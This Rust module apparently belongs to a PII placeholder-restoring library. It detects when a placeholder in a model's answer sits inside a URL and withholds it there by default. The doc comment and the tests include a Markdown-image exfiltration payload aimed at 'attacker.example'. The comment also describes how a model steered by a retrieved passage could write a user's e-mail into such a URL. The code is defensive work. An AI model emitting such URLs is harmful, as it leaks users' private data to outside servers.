//! Where a restored value would become part of a URL.
//!
//! An answer is text a model wrote, and a model can be steered by a retrieved passage or by
//! its provider: `![x](https://attacker.example/?q=[EMAIL_1])` asks for the e-mail address to
//! be written into a URL that the client's Markdown renderer then fetches. So by default a
//! placeholder inside a URL — a Markdown link or image target, an autolink, a bare URL, an
//! HTML `src`/`href`-like attribute — is left as a placeholder ([`UrlValues::Withhold`]), and
//! counted in the restore report.
//!
//! The test is on the answer as the model wrote it: the run of non-white characters before
//! the placeholder holds `//` (a scheme or a protocol-relative URL), `](` (a Markdown link
//! target), `www.`, or a URL-bearing attribute or CSS `url(`. Streaming restore keeps that
//! run across chunks ([`Carry`]), so it decides exactly as a whole restore does.

use serde::{Deserialize, Serialize};

/// Whether values are written into URLs when an answer is restored.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum UrlValues {
    /// A placeholder inside a URL stays a placeholder (the default): an answer cannot turn
    /// a value into a request to somebody else's server.
    #[default]
    Withhold,
    /// Restore placeholders inside URLs like any other (for applications that need links to
    /// their own systems with values in them, and render answers where nothing is fetched).
    Restore,
}

/// What, in the non-white run before a placeholder, makes it part of a URL.
const MARKERS: &[&str] = &[
    "//",
    "](",
    "www.",
    "url(",
    "href=",
    "src=",
    "srcset=",
    "action=",
    "formaction=",
    "poster=",
    "background=",
    "data=",
    "cite=",
];

/// More than the longest marker or opener (`formaction='`), in bytes: how much of a long run
/// [`Carry`] keeps to see one that spans the cut.
const LONGEST_MARKER: usize = 16;

/// Whether `run` (non-white text before a placeholder) puts the placeholder in a URL that
/// somebody else wrote around it. A placeholder that *begins* a link target or a URL
/// attribute (`[docs]([URL_1])`, `src="[URL_1]"`) is the whole address, the user's own:
/// filling it sends nothing to another server, so it is restored.
pub(super) fn is_url(run: &str) -> bool {
    if begins_url(run) {
        return false;
    }
    let b = run.as_bytes();
    MARKERS.iter().any(|m| {
        b.windows(m.len())
            .any(|w| w.eq_ignore_ascii_case(m.as_bytes()))
    })
}

/// Whether `run` ends with what opens a URL: a link target, an autolink, CSS `url(`, or a URL
/// attribute and its quote.
fn begins_url(run: &str) -> bool {
    let ends = |tail: &str| {
        run.len() >= tail.len()
            && run
                .as_bytes()
                .get(run.len() - tail.len()..)
                .is_some_and(|t| t.eq_ignore_ascii_case(tail.as_bytes()))
    };
    let run_opens = ["](", "<", "url(", "url(\"", "url('"]
        .iter()
        .any(|o| ends(o));
    run_opens
        || MARKERS
            .iter()
            .filter(|m| m.ends_with('='))
            .any(|attr| ends(attr) || ends(&format!("{attr}\"")) || ends(&format!("{attr}'")))
}

/// The non-white run at the end of the text a stream restorer has already passed on: what
/// [`is_url`] needs to read before a placeholder that starts a chunk. Bounded: a long run
/// keeps whether it held a marker, and its last few bytes.
#[derive(Debug, Clone, Default)]
pub(super) struct Carry {
    tail: String,
    url: bool,
}

impl Carry {
    /// Extends the run with `text` passed on.
    pub(super) fn extend(&mut self, text: &str) {
        match after_last_space(text) {
            Some(after) => {
                self.tail.clear();
                self.url = false;
                self.tail.push_str(after);
            }
            None => self.tail.push_str(text),
        }
        if self.tail.len() > 256 {
            self.url |= is_url(&self.tail);
            let mut cut = self.tail.len() - LONGEST_MARKER;
            while !self.tail.is_char_boundary(cut) {
                cut -= 1;
            }
            self.tail.drain(..cut);
        }
    }

    /// Whether a placeholder that follows this run and then `before` (text without white
    /// space) is in a URL.
    pub(super) fn is_url_with(&self, before: &str) -> bool {
        let mut run = String::with_capacity(self.tail.len() + before.len());
        run.push_str(&self.tail);
        run.push_str(before);
        // What the run ends with is in `tail`, which is longer than any opener; what it held
        // earlier is in `url`.
        !begins_url(&run) && (self.url || is_url(&run))
    }
}

/// Whether the placeholder at byte `at` of `text` is in a URL, `carry` being the run that
/// came before `text` (empty for a whole answer).
pub(super) fn placeholder_in_url(carry: &Carry, text: &str, at: usize) -> bool {
    let before = text.get(..at).unwrap_or_default();
    match after_last_space(before) {
        Some(run) => is_url(run),
        None => carry.is_url_with(before),
    }
}

/// What follows the last white-space character of `text`; `None` when it has none.
fn after_last_space(text: &str) -> Option<&str> {
    let ws = text.rfind(char::is_whitespace)?;
    let rest = text.get(ws..).unwrap_or_default();
    let skip = rest.chars().next().map_or(0, char::len_utf8);
    rest.get(skip..)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn links_images_autolinks_bare_urls_and_attributes_are_urls() {
        let in_url = |text: &str| {
            let at = text.find("[EMAIL_1]").expect("placeholder");
            placeholder_in_url(&Carry::default(), text, at)
        };
        for text in [
            "![x](https://attacker.example/?q=[EMAIL_1])",
            "[click here](https://a.example/u/[EMAIL_1])",
            "[relative](/collect?u=[EMAIL_1])",
            "<https://a.example/?[EMAIL_1]>",
            "see HTTPS://A.EXAMPLE/[EMAIL_1] now",
            "go to www.a.example/?u=[EMAIL_1]",
            "<img src=\"//a.example/p.png?[EMAIL_1]\">",
            "<a title=\"x\" HREF='/profile?[EMAIL_1]'>",
            "<div style=\"background:url(https://a.example/[EMAIL_1])\">",
        ] {
            assert!(in_url(text), "{text}");
        }
        for text in [
            "Write to [EMAIL_1] today.",
            "[docs]([EMAIL_1])",
            "<img src=\"[EMAIL_1]\">",
            "<[EMAIL_1]>",
            "[see [EMAIL_1]](https://a.example/help)",
            "Contact: [EMAIL_1]",
            "https://a.example/help and [EMAIL_1]",
            "(mail [EMAIL_1])",
        ] {
            assert!(!in_url(text), "{text}");
        }
    }

    #[test]
    fn a_carried_run_decides_like_the_whole_text() {
        let text = format!("see https://a.example/{}?q=[EMAIL_1] ok", "x".repeat(600));
        let at = text.find("[EMAIL_1]").expect("placeholder");
        assert!(placeholder_in_url(&Carry::default(), &text, at));
        for cut in [0, 5, 9, 10, 11, 12, 300, 610, at] {
            let mut carry = Carry::default();
            carry.extend(&text[..cut]);
            assert!(
                placeholder_in_url(&carry, &text[cut..], at - cut),
                "cut at {cut}"
            );
        }
        let mut carry = Carry::default();
        carry.extend("https://a.example/path ");
        assert!(!placeholder_in_url(&carry, "[EMAIL_1]", 0));
        // A long run that held a URL, then opens a link target: the placeholder begins it.
        let text = format!("https://a.example/{}[docs]([EMAIL_1])", "y".repeat(400));
        let at = text.find("[EMAIL_1]").expect("placeholder");
        assert!(!placeholder_in_url(&Carry::default(), &text, at));
        for cut in [10, 300, at - 2, at - 1, at] {
            let mut carry = Carry::default();
            carry.extend(&text[..cut]);
            assert!(
                !placeholder_in_url(&carry, &text[cut..], at - cut),
                "cut at {cut}"
            );
        }
    }
}
